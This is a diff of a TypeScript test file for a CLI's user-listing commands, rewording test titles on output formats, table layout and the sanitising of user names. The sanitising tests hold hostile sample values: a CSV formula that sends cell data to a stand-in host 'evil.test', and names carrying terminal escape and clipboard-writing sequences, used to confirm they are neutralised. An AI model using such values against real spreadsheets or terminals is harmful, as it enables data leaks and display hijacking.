@@ -6,16 +6,16 @@ import { SEED, setup, type Service, ADA } from "../_setup.ts";
 
 const LIST = ["users", "list"];
 
-/** Acme with nobody but users of these names. */
+/** The instance acme with only users of these names. */
 function named(...names: string[]): Promise<Service> {
   const [acme] = SEED.instances;
   const users = names.map((name, i) => ({ email: `m${i}@acme.test`, name, created_at: `2026-01-0${9 - i}T09:00:00Z` }));
   return setup({ seed: { instances: [{ ...acme, users }] } });
 }
 
-describe("Names that are written with joiners", () => {
+describe("Names with zero-width joiners", () => {
   it.each(["علی\u200cرضا", "क्\u200dष", "a\u200db", "👩\u200d", "\u200d👩", "👩\u200d\u200d👧", "a\u200d👧"])(
-    "are data as they are, and marked in a table: %s",
+    "are unchanged in data and marked in a table: %s",
     (name) => {
       expect(harmlessData(`${name}\u001b[2J`)).toBe(`${name}\\u{1b}[2J`);
       expect(harmless(name)).toMatch(/\\u\{200[cd]\}/);
@@ -23,7 +23,7 @@ describe("Names that are written with joiners", () => {
   );
 
   it.each(["👩\u200d👩\u200d👧", "🏳\ufe0f\u200d🌈", "👩🏽\u200d💻", "❤\ufe0f\u200d🔥"])(
-    "are one emoji of the width of two letters in a table, which is never cut in two: %s",
+    "are one emoji two columns wide in a table and are never cut: %s",
     async (emoji) => {
       expect(harmless(`${emoji}\u001b`)).toBe(`${emoji}\\u{1b}`);
       const service = await named("plain", emoji, `${emoji} and a name that is too long for a narrow table`);
@@ -43,7 +43,7 @@ describe("Names that are written with joiners", () => {
   );
 });
 
-describe("--output", () => {
+describe("The option --output", () => {
   it.each<[format: string, text: string]>([
     ["ids", `00000000-0000-4000-8000-0000000000a3\n${ADA}\n00000000-0000-4000-8000-0000000000a2\n`],
     [
@@ -59,21 +59,21 @@ describe("--output", () => {
         `${ADA}\tada@acme.test\tAda Lovelace\t\tgoogle\ttrue\t2026-01-05T09:00:00.000Z\n` +
         "00000000-0000-4000-8000-0000000000a2\tcharles@acme.test\tCharles Babbage\t\t\tfalse\t2025-12-24T18:00:00.000Z\n",
     ],
-  ])("%s is the same in a pipe and on a terminal", async (format, text) => {
+  ])("%s prints the same in a pipe and on a terminal", async (format, text) => {
     const service = await setup();
     for (const tty of [true, false])
       for (const flag of [["--output", format], [`--output=${format}`]])
         expect(await runCli([...LIST, ...flag], { service, tty })).toMatchObject({ code: 0, stdout: text, stderr: "" });
   });
 
-  it("ndjson is the API's resources, a line each", async () => {
+  it("ndjson prints each resource of the API on its own line", async () => {
     const service = await setup();
     const body = (await (await service.as(service.acme, "/api/v1/users")).json()) as object[];
     const { stdout } = await runCli([...LIST, "--output", "ndjson"], { service, tty: true });
     expect(stdout).toBe(body.map((user) => `${JSON.stringify(user)}\n`).join(""));
   });
 
-  it("json is the same as --json", async () => {
+  it("json prints the same as --json", async () => {
     const service = await setup();
     for (const argv of [LIST, ["users", "get", ADA], ["users", "search", "name:nobody"]]) {
       const json = await runCli([...argv, "--json"], { service });
@@ -82,14 +82,14 @@ describe("--output", () => {
     }
   });
 
-  it("says errors in JSON where it is json", async () => {
+  it("json prints errors as JSON", async () => {
     for (const flag of [["--output", "json"], ["--output=json"]]) {
       const { stderr } = await runCli(["users", "get", "ada", ...flag], { service: await setup() });
       expect(JSON.parse(stderr)).toMatchObject({ error: { exitCode: 2 } });
     }
   });
 
-  it("table can be asked for in a pipe, and is as wide as it has to be", async () => {
+  it("table prints a table in a pipe, as wide as needed", async () => {
     const { stdout } = await runCli([...LIST, "--output", "table"], {
       service: await named("x".repeat(200)),
       columns: 40,
@@ -123,14 +123,14 @@ describe("--output", () => {
     [[...LIST, "--sort", "--created_at"], '--sort: unknown field "-created_at".'],
     [[...LIST, "--sort", "constructor"], '--sort: unknown field "constructor".'],
     [[...LIST, "--limit", "-1"], '--limit must be 1 or greater, not "-1".'],
-  ])("%j is refused, and nothing is sent", async (argv, message) => {
+  ])("in %j is refused, and nothing is sent", async (argv, message) => {
     const { code, stdout, stderr, requests } = await runCli(argv, { service: await setup() });
     expect([code, stdout, requests]).toEqual([2, "", []]);
     expect(stderr).toContain(argv.includes("--json") ? JSON.stringify(message) : `✗ ${message}\n`);
   });
 });
 
-describe("A list", () => {
+describe("A list of users", () => {
   it.each<[flags: string[], names: string[]]>([
     [
       ["--sort", "name"],
@@ -163,7 +163,7 @@ describe("A list", () => {
     expect(stdout.trimEnd().split("\n")).toEqual(names);
   });
 
-  it("has the chosen fields alone, in the order they are asked for, in every format", async () => {
+  it("has only the chosen fields in the given order, in every format", async () => {
     const service = await setup();
     const argv = [...LIST, "--limit", "1", "--fields", "email, id,email_verified"];
     const run = async (...more: string[]): Promise<string> => (await runCli([...argv, ...more], { service })).stdout;
@@ -178,7 +178,7 @@ describe("A list", () => {
     );
   });
 
-  it("tells times as they are with --utc", async () => {
+  it("prints absolute times with --utc", async () => {
     const service = await setup();
     const options = { service, tty: true, env: { NO_COLOR: "1" } };
     expect((await runCli([...LIST, "--utc"], options)).stdout).toContain("2026-01-05T09:00:00.000Z");
@@ -195,12 +195,12 @@ describe("A list", () => {
     [["users", "search", "email:*@acme.test", "--count"], 2],
     [["sessions", "list", "--count", "--json"], 3],
     [["users", "search", "name:nobody", "--count"], 0],
-  ])("is only counted by %j", async (argv, count) => {
+  ])("prints only its length with %j", async (argv, count) => {
     expect(await runCli(argv, { service: await setup() })).toMatchObject({ code: 0, stdout: `${count}\n`, stderr: "" });
   });
 
   it.each([[[]], [["--json"]], [["--count"]], [["--output", "csv"]]])(
-    "that is empty fails with --fail-empty %j",
+    "exits with 3 if it is empty and --fail-empty is given with %j",
     async (more) => {
       const service = await setup();
       const run = async (term: string): Promise<number> =>
@@ -210,7 +210,7 @@ describe("A list", () => {
   );
 });
 
-describe("A narrow terminal", () => {
+describe("A table in a narrow terminal", () => {
   const run = async (columns: number, ...more: string[]): Promise<[title: string, stderr: string]> => {
     const { stdout, stderr } = await runCli([...LIST, ...more], {
       service: await setup(),
@@ -221,7 +221,7 @@ describe("A narrow terminal", () => {
     return [stdout.split("\n")[0]!.replaceAll(/ +/g, " "), stderr];
   };
 
-  it("leaves out what can be spared rather than cut all to pieces, and says so", async () => {
+  it("omits less important columns instead of cutting every column, and says so", async () => {
     expect(await run(120)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED CREATED", ""]);
     const shortened = "Ids are shortened. See all: --output wide\n";
     expect(await run(100)).toEqual(["ID EMAIL NAME PROVIDERS VERIFIED CREATED", shortened]);
@@ -229,7 +229,7 @@ describe("A narrow terminal", () => {
     expect(await run(60)).toEqual(["ID EMAIL NAME PROVIDERS", `Hidden: email_verified, created_at. ${shortened}`]);
   });
 
-  it("leaves out nothing that was asked for", async () => {
+  it("omits no column that was asked for", async () => {
     expect(await run(60, "--fields", "id,email,created_at")).toEqual([
       "ID EMAIL CREATED",
       "Ids are shortened. See all: --output wide\n",
@@ -237,7 +237,7 @@ describe("A narrow terminal", () => {
   });
 });
 
-describe("A name from a stranger", () => {
+describe("A user's name", () => {
   it.each<[name: string, cell: string]>([
     ['=HYPERLINK("http://evil.test?"&A1,"click")', `"'=HYPERLINK(""http://evil.test?""&A1,""click"")"`],
     ["+1+1", `"'+1+1"`],
@@ -250,14 +250,14 @@ describe("A name from a stranger", () => {
     ['a,b";c', '"a,b"";c"'],
     ["a\nb", "a\\u{a}b"],
     ["Ada", "Ada"],
-  ])("is no formula in CSV: %j", async (name, cell) => {
+  ])("cannot be a formula in CSV: %j", async (name, cell) => {
     const { stdout } = await runCli([...LIST, "--fields", "name,email", "--output", "csv"], {
       service: await named(name),
     });
     expect(stdout).toBe(`name,email\n${cell},m0@acme.test\n`);
   });
 
-  it("can't do anything in any format, nor make a line", async () => {
+  it("cannot send control characters or start a line in any format", async () => {
     const ESCAPE = "\u001b";
     const name = `a${ESCAPE}]52;c;cm0=\u0007\u009b31m\u202e\n\tb`;
     const service = await named(name, "Bob");
@@ -273,7 +273,7 @@ describe("A name from a stranger", () => {
     }
   });
 
-  it("beyond those that were measured still keeps every line within the terminal", async () => {
+  it("of unknown width keeps every line within the terminal", async () => {
     const [acme] = SEED.instances;
     const users = Array.from({ length: 700 }, (_, i) => ({
       email: `u${i}@acme.test`,
